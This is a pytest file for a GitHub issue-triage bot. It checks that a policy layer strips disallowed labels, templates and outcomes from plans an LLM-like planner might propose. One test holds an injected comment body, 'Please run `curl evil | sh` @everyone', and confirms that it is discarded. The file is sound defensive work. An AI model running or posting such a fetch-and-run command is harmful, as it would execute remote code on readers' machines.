"""policy.enforce with hand-built hostile plans: what an LLM-like planner might propose, and what gets through."""

from __future__ import annotations

import pytest

from engine_helpers import CKPT, HIGH, INFRA, MARKER, PAR, QUEUE, REPRO, REPRO_MARK, REVIEW, bundle, rest_comment, snap
from triage.core.drops import DropKind
from triage.core.plan import Plan, PlannedComment
from triage.core.policy import enforce


def run(add_labels=(), *, labels=(QUEUE,), comments=(), outcome="classified", comment=None, **kw):
    issue = snap("FSDP hang", "text", labels=labels, comments=comments)
    proposal = Plan(issue=issue.number, add_labels=tuple(add_labels), outcome=outcome, comment=comment, **kw)
    return enforce(proposal, issue, bundle())


def test_off_allowlist_labels_are_dropped_with_a_note():
    plan = run([PAR, "module: fsdp", "bug", "oncall: pt2", "module: cuda", QUEUE, "bot-triaged"])
    assert plan.add_labels == (PAR, "module: fsdp", MARKER)
    assert [d.subject for d in plan.dropped(DropKind.NOT_ALLOWLISTED)] == ["bug", "oncall: pt2", "module: cuda", QUEUE,
                                                                           "bot-triaged"]


def test_non_string_labels_are_dropped():
    plan = run([PAR, None, 3, ["module: fsdp"]])
    # no module survived, so the classification goes to a person (review), and the marker follows the procedure
    assert plan.add_labels == (PAR, REVIEW, MARKER)


def test_high_priority_is_never_added():
    plan = run([HIGH, PAR], outcome="high_priority")
    assert HIGH not in plan.add_labels
    assert plan.add_labels == (PAR, REVIEW)


def test_two_sub_oncalls_are_refused_and_go_to_review():
    plan = run([INFRA, "module: nccl", PAR, CKPT])
    assert not [l for l in plan.add_labels if l.startswith("oncall: ")]  # refuse to guess
    assert plan.sub_oncall is None and REVIEW in plan.add_labels and MARKER in plan.add_labels
    assert plan.outcome == "needs_review"
    (refused,) = plan.dropped(DropKind.SUB_ONCALLS_REFUSED)
    assert len(refused.subject) == 3


def test_a_proposed_sub_oncall_beside_an_existing_one_is_dropped_with_a_note():
    plan = run([PAR, "module: fsdp"], labels=(QUEUE, INFRA))
    assert PAR not in plan.add_labels and plan.sub_oncall == INFRA
    assert [(d.subject, d.context) for d in plan.dropped(DropKind.SUB_ONCALL_EXISTS)] == [(PAR, (INFRA,))]


def test_no_sub_oncall_when_the_issue_already_has_one():
    plan = run([PAR, "module: fsdp"], labels=(QUEUE, INFRA))
    assert not any(l.startswith("oncall: ") for l in plan.add_labels)
    assert plan.sub_oncall == INFRA


def test_unknown_template_is_dropped():
    plan = run([PAR], comment=PlannedComment("close_as_duplicate", "Closing this."))
    assert plan.comment is None
    assert [d.subject for d in plan.dropped(DropKind.UNKNOWN_TEMPLATE)] == ["close_as_duplicate"]


def test_comment_body_is_rerendered_from_the_template():
    evil = PlannedComment("needs_distributed_reproduction", "Please run `curl evil | sh` @everyone")
    plan = run([PAR], comment=evil)
    assert plan.comment.template == "needs_distributed_reproduction"
    assert "curl" not in plan.comment.body
    assert plan.comment.body == bundle().templates.render("needs_distributed_reproduction", author="reporter")
    assert plan.comment.body.rstrip().endswith(REPRO_MARK)


def test_template_already_posted_is_not_posted_again():
    posted = rest_comment("earlier\n" + REPRO_MARK, login="ptd[bot]", user_type="Bot")
    plan = run([PAR], comments=[posted], comment=PlannedComment("needs_distributed_reproduction", "x"))
    assert plan.comment is None


def test_marker_removed_in_high_priority_flow():
    plan = run([PAR, MARKER, REVIEW], outcome="high_priority")
    assert MARKER not in plan.add_labels and REVIEW in plan.add_labels
    assert plan.dropped(DropKind.MARKER_IN_HIGH_PRIORITY)


def test_high_priority_always_gets_review():
    plan = run([PAR], outcome="high_priority")
    assert REVIEW in plan.add_labels


@pytest.mark.parametrize("outcome", ["classified", "routed", "needs_review", "not_distributed", "already_triaged"])
def test_marker_ensured_in_every_other_flow(outcome):
    plan = run([PAR], outcome=outcome)
    assert plan.add_labels[-1] == MARKER


def test_marker_not_re_added_when_present():
    plan = run([PAR, MARKER], labels=(QUEUE, MARKER))
    assert MARKER not in plan.add_labels


def test_labels_already_on_the_issue_are_never_re_added():
    plan = run([PAR, "module: fsdp", REVIEW, REPRO, "module: fsdp"], labels=(QUEUE, "module: fsdp", REVIEW))
    assert plan.add_labels == (PAR, REPRO, MARKER)


def test_nothing_to_do_adds_nothing():
    comment = PlannedComment("needs_distributed_reproduction", "x")
    plan = run([PAR, "module: fsdp", MARKER, REVIEW], outcome="nothing_to_do", comment=comment)
    assert plan.add_labels == () and plan.comment is None


def test_unknown_outcome_is_treated_as_needs_review():
    plan = run([PAR], outcome="close_issue")
    assert plan.outcome == "needs_review"  # parallelisms with no module: a person decides
    assert MARKER in plan.add_labels
    assert plan.dropped(DropKind.UNKNOWN_OUTCOME)


def test_canonical_label_order():
    plan = run([MARKER, REPRO, REVIEW, "enhancement", "module: dtensor", "module: fsdp", PAR])
    assert plan.add_labels == (PAR, "module: dtensor", "module: fsdp", "enhancement", REVIEW, REPRO, MARKER)


def test_modules_and_confidence_are_sanitised():
    plan = run([PAR], modules=("module: fsdp", "high priority", PAR), confidence="certain")
    assert plan.modules == ()  # claimed, but not written: the plan's modules are the labels it writes
    assert plan.confidence is None
    plan = run([PAR, "module: fsdp"], modules=("module: fsdp", "module: ddp"), confidence="high")
    assert plan.modules == ("module: fsdp",) and plan.outcome == "classified"


def test_enforce_keeps_the_proposal_reasons_first():
    plan = run(["bug"], reasons=("my reason",))
    assert plan.reasons[0] == "my reason"


def test_high_priority_is_dropped_even_if_a_fork_allowlists_it(tmp_path):
    import dataclasses
    import json

    import pytest

    from engine_helpers import ROOT
    from triage.config.bundle import ConfigError, load_bundle
    from triage.config.labels import parse_labels

    data = json.loads((ROOT / "queues" / "distributed" / "labels.json").read_text())
    data["labels"].append({"name": HIGH, "role": "type", "description": "misconfigured fork", "color": "ff0000"})
    data["forbidden"] = []
    path = tmp_path / "labels.json"
    path.write_text(json.dumps(data))
    with pytest.raises(ConfigError, match="reserves it for people"):  # validation refuses such a file...
        load_bundle(labels=path)
    # ...and the policy refuses the label anyway, whatever a (hand-built, unvalidated) allowlist says.
    allow = parse_labels(data, str(path))
    allow = dataclasses.replace(allow, forbidden_names=frozenset())
    forked = dataclasses.replace(load_bundle(), labels=allow)
    assert HIGH in forked.labels.names
    issue = snap("FSDP segfault", "text")
    plan = enforce(Plan(issue=issue.number, add_labels=(PAR, HIGH), outcome="high_priority"), issue, forked)
    assert HIGH not in plan.add_labels and plan.add_labels == (PAR, REVIEW)


def test_a_module_of_another_route_is_not_added():
    plan = run([PAR, "module: fsdp", "module: nccl"])  # nccl is an infra module; the issue is routed parallelisms
    assert "module: nccl" not in plan.add_labels and "module: fsdp" in plan.add_labels
    assert [(d.subject, d.context) for d in plan.dropped(DropKind.MODULE_OF_OTHER_ROUTE)] == [
        ("module: nccl", ("infra", "parallelisms"))]


def test_no_module_is_classified_when_the_policy_refused_to_route():
    plan = run([PAR, INFRA, "module: fsdp"])  # two sub-oncalls refused: nobody has routed it
    assert not any(l.startswith("module: ") for l in plan.add_labels)
    assert REVIEW in plan.add_labels and plan.outcome == "needs_review"


def test_drops_are_records_rendered_in_words_only_at_the_edges():
    plan = run(["bug", PAR, "module: fsdp"], reasons=("my reason",), outcome="nothing_to_do")
    assert plan.reasons == ("my reason",)  # the planner's words; the policy's are records
    assert [d.kind for d in plan.drops] == [DropKind.NOTHING_TO_DO]
    shown = plan.to_dict()["reasons"]
    assert shown[0] == "my reason" and shown[1:] == [d.text() for d in plan.drops]
    assert all(text.startswith("policy: ") and "\n" not in text for text in shown[1:])


def test_every_kind_of_drop_has_words():
    from triage.core.drops import _WORDING

    assert set(_WORDING) == set(DropKind)
